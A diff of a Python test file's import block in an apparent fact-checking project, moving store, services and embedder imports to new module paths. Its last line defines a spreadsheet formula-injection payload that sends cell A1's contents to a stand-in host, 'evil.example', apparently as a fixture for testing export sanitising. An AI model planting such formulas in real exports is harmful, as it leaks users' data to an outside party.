@@ -11,10 +11,10 @@ import pytest
 import sqlalchemy as sa
 from jsonschema import Draft202012Validator
 
-from factcheck import export, review
 from factcheck.config import Settings
-from factcheck.embed import Embedder
+from factcheck.db.store import Store, archive, claims, evidence_links, passages, sources, to_row, verdicts
 from factcheck.errors import InputError, NotFoundError
+from factcheck.ml.embedder import Embedder
 from factcheck.models import (
     ArchiveCheck,
     Article,
@@ -27,16 +27,7 @@ from factcheck.models import (
     Source,
     ValueKind,
 )
-from factcheck.store import (
-    Store,
-    archive,
-    claims,
-    evidence_links,
-    passages,
-    sources,
-    to_row,
-    verdicts,
-)
+from factcheck.services import export, review
 from factcheck.workspace import Workspace
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
